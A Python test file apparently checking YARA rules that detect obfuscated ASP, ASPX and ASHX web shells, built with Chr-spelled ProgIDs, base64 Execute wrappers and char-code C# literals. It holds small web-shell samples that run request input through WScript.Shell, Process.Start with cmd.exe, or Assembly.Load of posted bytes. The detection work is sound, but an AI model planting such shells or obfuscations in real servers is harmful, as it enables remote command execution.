"""Rules from the twenty-fourth unseen collection: pages written by web shell generators and obfuscators
(issue 14, helper X24).

On first sight (BENCHMARKS.md, "Unseen shells, twenty-fourth collection: generator and obfuscator output")
the own rules missed 7 of 23 generated pages, in three shapes (``data/rules/generated_page_obfuscation.yar``):

- ``EXT_WEBSHELL_VBS_Chr_Spelled_ProgID_Runs_Command``: a classic-ASP obfuscator spells the COM object names
  it needs as ``Chr(77) & Chr(83) & ...`` chains and runs the posted command through ``.Exec``; its pages
  are padded with megabytes of random comments (the behaviour analysis reads the start and the end of such
  a page, and the command sat between them in one of five).
- ``EXT_WEBSHELL_VBS_Execute_Base64_Stream_Text``: an obfuscation kit wraps the whole page in base64, decoded
  through an XML node's ``nodeTypedValue`` into an ADODB.Stream whose text is handed to ``Execute`` - every
  string of the wrapper split into three-letter pieces joined with ``&``.
- ``EXT_WEBSHELL_CSharp_String_Literals_As_Char_Codes``: a generator rewrites C# string literals as
  ``new string(new char[]{(char)99,(char)109,...})``.

The shells below are harmless pages put through the same transformations (the helpers ``_chr``, ``_split3``
and ``_codes`` spell a text the way the tools do); the ordinary pages are the closest everyday code: objects
created by name, a string built from a few character codes, the classic dynamic include (``ExecuteGlobal
s.ReadText`` after ``LoadFromFile``), a base64 image written back through ``nodeTypedValue``. Nothing is
compiled or run, and none is a copy of a real shell.
"""

from __future__ import annotations

import base64
from pathlib import Path

from extriage.detections.webfiles import content

from .rule_tables import Page, RuleCase, rule_tables, yara_rules

_CHR_RULE = "EXT_WEBSHELL_VBS_Chr_Spelled_ProgID_Runs_Command"
_EXEC_RULE = "EXT_WEBSHELL_VBS_Execute_Base64_Stream_Text"
_CODES_RULE = "EXT_WEBSHELL_CSharp_String_Literals_As_Char_Codes"


def _chr(text: str, fn: str = "Chr", sep: str = " & ", hexa: bool = False) -> str:
    """``text`` as a VBScript expression of character codes: Chr(77) & Chr(83) & ..."""
    return sep.join(f"{fn}(&H{ord(c):X})" if hexa else f"{fn}({ord(c)})" for c in text)


def _split3(text: str) -> str:
    """``text`` as a VBScript literal split into three-letter pieces: "abc" & "def" & ..."""
    return " & ".join(f'"{text[i : i + 3]}"' for i in range(0, len(text), 3))


def _codes(text: str) -> str:
    """``text`` as a C# expression: new string(new char[]{(char)104,(char)105,...})."""
    return "new string(new char[]{" + ",".join(f"(char){ord(c)}" for c in text) + "})"


def _comments(n: int) -> str:
    return "\n".join(f"' {'qwxz' * 12} {i} {'plmk' * 9}" for i in range(n))


_XOR_HELPERS = (
    'Function Dx(a, k)\n  Dim i, r\n  r = ""\n  For i = 1 To Len(a)\n'
    "    r = r & Chr(Asc(Mid(a, i, 1)) Xor Asc(Mid(k, (i - 1) Mod Len(k) + 1, 1)))\n  Next\n  Dx = r\nEnd Function\n"
    "Function B64(t)\n  Dim x, n, s\n"
    f"  Set x = CreateObject({_chr('MSXML2.DOMDocument')})\n"
    f"  Set n = x.createElement({_chr('base64')})\n  n.dataType = {_chr('bin.base64')}\n  n.text = t\n"
    f"  Set s = CreateObject({_chr('ADODB.Stream')})\n"
    "  s.Type = 1\n  s.Open\n  s.Write n.nodeTypedValue\n  s.Position = 0\n  s.Type = 2\n  B64 = s.ReadText\nEnd Function\n"
)

CHR_SHELLS: list[Page] = [
    (
        "helpers-spelled-shell-object-decoded",
        ".asp",
        '<%\n\' placeholder comment\nIf Request.Form("qz") <> "" Then\n'
        + _XOR_HELPERS
        + '  Set o = CreateObject(Dx(B64("cGxhY2Vob2xkZXI="), "key"))\n'
        + '  Set e = o.Exec(Dx(B64("cGxhY2Vob2xkZXI="), "key") & Dx(B64(Request.Form("qz")), "key"))\n'
        + "  out = e.StdOut.ReadAll()\nEnd If\n%>\n<pre><%=out%></pre>",
    ),
    (
        "shell-object-spelled-run",
        ".asp",
        f"<%\nSet o = Server.CreateObject({_chr('WScript.Shell')})\n"
        'If Request("c") <> "" Then o.Run Request("c"), 0, False\n%>\n<form><input name="c"></form>',
    ),
    (
        "chrw-hex-codes-no-spaces",
        ".asp",
        f"<%\nSet o = CreateObject({_chr('WScript.Shell', fn='ChrW', sep='&', hexa=True)})\n"
        'Set e = o.Exec("cmd /c echo " & Request.QueryString("m"))\nResponse.Write e.StdOut.ReadAll\n%>',
    ),
    (
        "padded-with-comments",
        ".asp",
        "<%\n"
        + _comments(1500)
        + f"\nSet o = CreateObject({_chr('WScript.Shell')})\n"
        + _comments(1500)
        + '\nSet e = o.Exec("cmd /c echo " & Request.Form("p"))\n'
        + _comments(1500)
        + "\nResponse.Write e.StdOut.ReadAll()\n%>",
    ),
    (
        "vb-net-page-spelled-object",
        ".aspx",
        '<%@ Page Language="VB" AspCompat="true" %>\n<%\n'
        f"Dim o As Object = CreateObject({_chr('WScript.Shell')})\n"
        'Dim e As Object = o.Exec("cmd /c echo " & Request.Form("p"))\nResponse.Write(e.StdOut.ReadAll())\n%>',
    ),
]

CHR_ORDINARY: list[Page] = [
    (
        "objects-by-name-separator-from-codes",
        ".asp",
        '<%\nSet cn = Server.CreateObject("ADODB.Connection")\nsep = Chr(44) & Chr(32)\n'
        'Set rs = cn.Execute("SELECT name FROM items WHERE cat = 1")\n'
        'Response.Write Request.QueryString("cat") & sep & rs("name")\n%>',
    ),
    (
        "spelled-dictionary-no-command",
        ".asp",
        f"<%\nSet d = CreateObject({_chr('Scripting.Dictionary')})\n"
        'd.Add "q", Request.Form("q")\nResponse.Write d.Item("q")\n%>',
    ),
    (
        "spelled-file-object-reads-request-runs-nothing",
        ".asp",
        f"<%\nSet f = Server.CreateObject({_chr('Scripting.FileSystemObject')})\n"
        'If f.FileExists(Server.MapPath("data/" & Request("n") & ".txt")) Then Response.Write "yes"\n%>',
    ),
    (
        "report-job-run-by-name-markup-from-codes",
        ".asp",
        '<%\nSet job = Server.CreateObject("Reports.Job")\njob.Run Request.Form("id")\n'
        "Response.Write " + _chr("<b>done</b>") + "\n%>",
    ),
]

_INNER = base64.b64encode(b'<%\nResponse.Write "placeholder"\n%>').decode()

EXEC_SHELLS: list[Page] = [
    (
        "wrapper-strings-split",
        ".asp",
        "<%\nDim o1a2b3c, strDecode\nstrDecode = " + _split3(_INNER) + "\n"
        f"Set o1a2b3c = CreateObject({_split3('ADODB.Stream')})\no1a2b3c.Type = 1\no1a2b3c.Open\n"
        f"o1a2b3c.Write(CreateObject({_split3('Microsoft.XMLDOM')}).CreateElement({_split3('base64')})"
        ".nodeTypedValue = strDecode)\n"
        f"o1a2b3c.Position = 0\no1a2b3c.Type = 2\no1a2b3c.Charset = {_split3('UTF-8')}\n"
        "Execute o1a2b3c.ReadText\no1a2b3c.Close\n%>",
    ),
    (
        "wrapper-plain-executeglobal",
        ".asp",
        f'<%\nd = "{_INNER}"\nSet x = CreateObject("MSXML2.DOMDocument")\nSet n = x.createElement("b")\n'
        'n.dataType = "bin.base64"\nn.text = d\nSet s = CreateObject("ADODB.Stream")\ns.Type = 1\ns.Open\n'
        's.Write n.nodeTypedValue\ns.Position = 0\ns.Type = 2\ns.Charset = "utf-8"\nExecuteGlobal(s.ReadText)\n%>',
    ),
    (
        "wrapper-in-aspx",
        ".aspx",
        "<%\nDim oq, strDecode\nstrDecode = " + _split3(_INNER) + "\n"
        'Set oq = CreateObject("ADODB.Stream")\noq.Type = 1\noq.Open\n'
        'oq.Write(CreateObject("Microsoft.XMLDOM").CreateElement("base64").nodeTypedValue = strDecode)\n'
        "oq.Position = 0\noq.Type = 2\nExecute oq.ReadText\n%>",
    ),
]

EXEC_ORDINARY: list[Page] = [
    (
        "dynamic-include-from-file",
        ".asp",
        '<%\nSub Include(p)\n  Set s = CreateObject("ADODB.Stream")\n  s.Type = 2\n  s.Charset = "utf-8"\n'
        "  s.Open\n  s.LoadFromFile Server.MapPath(p)\n  ExecuteGlobal s.ReadText\n  s.Close\nEnd Sub\n"
        'Include "inc/functions.asp"\n%>',
    ),
    (
        "base64-image-written-back",
        ".asp",
        '<%\nSet x = CreateObject("MSXML2.DOMDocument")\nSet n = x.createElement("b")\n'
        'n.dataType = "bin.base64"\nn.text = "iVBORw0KGgo="\nResponse.ContentType = "image/png"\n'
        "Response.BinaryWrite n.nodeTypedValue\n%>",
    ),
    (
        "decoded-text-stored-sql-executed",
        ".asp",
        '<%\nSet x = CreateObject("MSXML2.DOMDocument")\nSet n = x.createElement("b")\nn.dataType = "bin.base64"\n'
        'n.text = Request.Form("note")\nSet s = CreateObject("ADODB.Stream")\ns.Type = 1\ns.Open\n'
        "s.Write n.nodeTypedValue\ns.Position = 0\ns.Type = 2\ntxt = s.ReadText\n"
        'cn.Execute "INSERT INTO notes (body) VALUES (\'" & Replace(txt, "\'", "\'\'") & "\')"\n%>',
    ),
]

CODES_SHELLS: list[Page] = [
    (
        "two-spelled-literals-process-start",
        ".aspx",
        '<%@ Page Language="C#" %>\n<script runat="server">\nvoid Page_Load(object s, EventArgs e) {\n'
        f'  string f = {_codes("cmd.exe")};\n  string a = {_codes("/c echo ")} + Request["q"];\n'
        "  var p = System.Diagnostics.Process.Start(new System.Diagnostics.ProcessStartInfo(f, a)"
        " { UseShellExecute = false, RedirectStandardOutput = true });\n"
        "  Response.Write(p.StandardOutput.ReadToEnd());\n}\n</script>",
    ),
    (
        "many-spelled-literals-nothing-plain",
        ".aspx",
        '<%@ Page Language="C#" %>\n<script runat="server">\nvoid Page_Load(object s, EventArgs e) {\n'
        + "".join(f"  string v{i} = {_codes(f'placeholder-{i}')};\n" for i in range(9))
        + "  Response.Write(v0 + v8);\n}\n</script>",
    ),
    (
        "handler-spelled-type-names-assembly-load",
        ".ashx",
        '<%@ WebHandler Language="C#" Class="H" %>\nusing System.Web;\n'
        "public class H : IHttpHandler {\n  public bool IsReusable { get { return false; } }\n"
        "  public void ProcessRequest(HttpContext c) {\n"
        f"    string t = {_codes('Probe.Entry')}, m = {_codes('Invoke')};\n"
        '    var asm = System.Reflection.Assembly.Load(System.Convert.FromBase64String(c.Request.Form["d"]));\n'
        "    asm.GetType(t).GetMethod(m).Invoke(null, new object[] { c });\n  }\n}",
    ),
]

CODES_ORDINARY: list[Page] = [
    (
        "two-spelled-literals-no-process",
        ".aspx",
        '<%@ Page Language="C#" %>\n<script runat="server">\nvoid Page_Load(object s, EventArgs e) {\n'
        f"  string bullet = {_codes('* ')};\n  string dash = {_codes(' - - ')};\n"
        '  Out.Text = bullet + Request.QueryString["t"] + dash;\n}\n</script>\n<asp:Label id="Out" runat="server" />',
    ),
    (
        "one-spelled-literal-fixed-report-tool",
        ".aspx",
        '<%@ Page Language="C#" %>\n<script runat="server">\nvoid Page_Load(object s, EventArgs e) {\n'
        f"  string title = {_codes('Monthly report')};\n"
        '  var psi = new System.Diagnostics.ProcessStartInfo(Server.MapPath("~/bin/report.exe"), "--month 11");\n'
        "  System.Diagnostics.Process.Start(psi).WaitForExit();\n  Title = title;\n}\n</script>",
    ),
    (
        "separator-char-array-literals",
        ".aspx",
        '<%@ Page Language="C#" %>\n<script runat="server">\nvoid Page_Load(object s, EventArgs e) {\n'
        "  var parts = Request.QueryString[\"tags\"].Split(new char[] { ',', ';', ' ' });\n"
        "  var crlf = new string(new char[] { (char)13, (char)10 });\n"
        '  Out.Text = string.Join(crlf, parts);\n}\n</script>\n<asp:Label id="Out" runat="server" />',
    ),
]

CASES: list[RuleCase] = [
    (_CHR_RULE, CHR_SHELLS, CHR_ORDINARY),
    (_EXEC_RULE, EXEC_SHELLS, EXEC_ORDINARY),
    (_CODES_RULE, CODES_SHELLS, CODES_ORDINARY),
]

(
    test_shell_is_found,
    test_ordinary_page_is_not_flagged,
    test_rule_needs_a_server_page,
) = rule_tables(CASES)


def test_codes_rule_needs_a_page_not_a_source_file(tmp_path: Path, params: content.ContentParams) -> None:
    """The same spelled literals in a plain C# class file (no directive, no runat=server) are not a page."""
    code = CODES_SHELLS[1][2].split('<script runat="server">\n', 1)[1].replace("</script>", "")
    assert _CODES_RULE not in yara_rules(tmp_path, "Helper.cs", "class Helper {\n" + code + "}\n", params)
